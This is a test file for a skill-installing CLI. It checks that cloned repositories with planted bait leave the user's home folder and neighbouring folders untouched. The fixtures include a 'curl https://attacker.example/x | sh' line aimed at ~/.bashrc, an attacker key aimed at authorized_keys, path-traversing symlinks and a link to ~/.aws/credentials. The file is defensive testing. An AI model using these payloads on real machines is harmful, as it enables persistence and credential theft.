import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import {
  type CommittedFiles,
  type HostileClone,
  hostileClone,
} from "../../../install/src/testing/hostile-clone.js";
import { makeGitRepo } from "../../../install/src/testing/make-git-repo.js";
import { runCliCaptured } from "../testing/index.js";

/**
 * Each finding of issue 21 that an install command could be made to act on, as an attacker would set it
 * up: a real repository commits the bait, the person clones it and runs an ordinary command. Afterwards
 * HOME and the folder holding the clone are byte for byte what they were.
 */
let world: HostileClone | undefined;
afterEach(async () => {
  await world?.cleanup();
  world = undefined;
});

async function clone(
  files: Parameters<typeof hostileClone>[0],
  options: Parameters<typeof hostileClone>[1] = {},
): Promise<HostileClone> {
  world = await hostileClone(files, options);
  return world;
}

/** Runs the CLI in the clone, as the person. */
const cli = (w: HostileClone, ...argv: string[]) => runCliCaptured({ argv, cwd: w.clone, env: w.env });

/** Runs `argv` in the clone; HOME and the parent folder (outside the clone) must not change. */
async function runUnharmed(w: HostileClone, ...argv: string[]) {
  const before = w.outside();
  const result = await cli(w, ...argv);
  expect(w.outside(), `${argv.join(" ")}: ${result.stderr}`).toEqual(before);
  return result;
}

const WRITING = [["install"], ["add", "./vendor/beta"], ["update", "--yes"], ["remove", "alpha"]];

describe("finding 1: a committed install journal is never rolled back", () => {
  const staging = ".agents/.skillset-staging";
  const journal = ({
    home,
    parent,
    clone,
  }: {
    home: string;
    parent: string;
    clone: string;
  }): CommittedFiles => ({
    [`${staging}/journal.json`]: JSON.stringify({
      lockPath: join(home, ".bashrc"),
      oldLock: "curl https://attacker.example/x | sh\n",
      oldLockPath: join(home, ".bashrc"),
      swaps: [
        {
          target: join(parent, "victim-sibling"),
          previous: join(clone, staging, "gone"),
          staged: "/nowhere",
        },
        { target: join(home, ".ssh/authorized_keys"), previous: join(clone, staging, "attacker_keys") },
      ],
      version: 1,
    }),
    [`${staging}/attacker_keys`]: "ssh-ed25519 AAAAattacker evil@host\n",
  });

  it.each(WRITING)("%s leaves ~/.bashrc, authorized_keys and the sibling alone", async (...argv) => {
    const w = await clone(journal, { installed: true });
    const result = await runUnharmed(w, ...argv);
    expect(result.code, result.stderr).toBe(0);
    // The committed staging folder is ignored: neither read nor deleted.
    expect(readFileSync(join(w.clone, staging, "attacker_keys"), "utf8")).toContain("attacker");
    expect(existsSync(join(w.clone, staging, "journal.json"))).toBe(true);
  });

  it("check does not report it as an interrupted change of the person's", async () => {
    const w = await clone(journal, { installed: true });
    const result = await runUnharmed(w, "check");
    expect(result.stdout).toBe("alpha  current\n");
    expect(JSON.parse((await cli(w, "check", "--json")).stdout).interrupted).toBe(false);
  });
});

describe("finding 2: a committed link .agents/.skillset-staging -> ../..", () => {
  it.each(WRITING)("%s deletes nothing in the folder holding the clone", async (...argv) => {
    const w = await clone(() => ({ ".agents/.skillset-staging": { symlink: "../.." } }), { installed: true });
    const result = await runUnharmed(w, ...argv);
    expect(result.code, result.stderr).toBe(0);
    expect(readdirSync(w.parent).sort()).toEqual(["clone", "victim-sibling"]);
  });
});

describe("finding 5: committed links at the folders install writes to", () => {
  it.each([
    [".agents", "../victim-sibling", ["add", "./vendor/beta"]],
    [".agents/skills", "../../victim-sibling/skills", ["add", "./vendor/alpha"]],
    [".claude/skills", "../../victim-sibling/skills", ["add", "./vendor/alpha", "--agent", "claude"]],
    [".agents/skills/alpha", "../../../victim-sibling/skills/alpha", ["add", "./vendor/alpha", "--force"]],
    [".agents/skills/alpha", "../../../victim-sibling/skills/alpha", ["install"]],
    [".agents/skills/alpha", "../../../victim-sibling/skills/alpha", ["remove", "alpha"]],
  ])("a link at %s to %s: %j is refused, naming the link and the fix", async (at, to, argv) => {
    const installed = at.startsWith(".agents/skills/");
    const w = await clone(() => ({ [at]: { symlink: to } }), {
      installed,
      deleted: installed ? [".agents/skills/alpha"] : [],
    });
    const result = await runUnharmed(w, ...argv);
    const shown = `${[...result.stdout.matchAll(/.+/g)].join("\n")}\n${result.stderr}`;
    expect(result.code, shown).toBe(1);
    expect(shown).toContain(
      `Refused: ${join(w.clone, at)} is a symbolic link to ${join(w.parent, to.replace(/^(\.\.\/)+/, ""))}`,
    );
    expect(shown).toContain("Remove that link, or replace it with a real folder");
  });

  it("a link at .skillset changes nothing outside (install commands never write there)", async () => {
    const w = await clone(() => ({ ".skillset": { symlink: "../victim-sibling" } }));
    expect((await runUnharmed(w, "add", "./vendor/beta")).code).toBe(0);
    expect(existsSync(join(w.clone, ".agents/skills/beta/SKILL.md"))).toBe(true);
  });
});

describe("finding 6: a committed lock that names the person's own folders", () => {
  const entry = (source: string, sourceType: string) => ({
    version: 1,
    skills: { private: { source, sourceType, skillPath: "private", computedHash: "0".repeat(64) } },
  });

  it.each([
    ["a relative local path", () => entry("../../home/.claude/skills", "local")],
    ["an absolute local path", (home: string) => entry(join(home, ".claude/skills"), "local")],
    [
      "a github source climbing out of the clone",
      (home: string) => entry(`owner/repo/${"../".repeat(12)}${home.slice(1)}/.claude/skills`, "github"),
    ],
    ["a file:// git URL", (home: string) => entry(`file://${join(home, ".claude/skills")}`, "git")],
  ])("%s: update --yes, install and check copy nothing in and say why", async (_, lock) => {
    const w = await clone(({ home }) => ({ "skills-lock.json": JSON.stringify(lock(home)) }));
    const hub = await makeGitRepo(w.temp.join("hub/owner"), "repo");
    await hub.commit({ "README.md": "a repository that exists\n" });
    for (const argv of [["update", "--yes"], ["install"], ["check"]]) {
      const result = await runUnharmed(w, ...argv);
      expect(result.code, `${argv}`).toBe(1);
      expect(`${result.stdout}${result.stderr}`).toMatch(/Refused the source/);
      expect(existsSync(join(w.clone, ".agents/skills/private"))).toBe(false);
    }
  });
});

describe("finding 10: a committed lock that is not a lock", () => {
  it.each([
    ["a link to the person's credentials", "../../home/.aws/credentials", /outside/],
    ["a link to /dev/zero", "/dev/zero", /outside|not a regular file/],
  ])("%s is refused at once, its text never shown", async (_, to, why) => {
    const w = await clone(() => ({ "skills-lock.json": { symlink: to } }));
    for (const argv of [["install"], ["check"], ["add", "./vendor/beta"]]) {
      const result = await runUnharmed(w, ...argv);
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(why);
      expect(`${result.stdout}${result.stderr}`).not.toMatch(/PLANTED|aws_secret/);
    }
  });
});
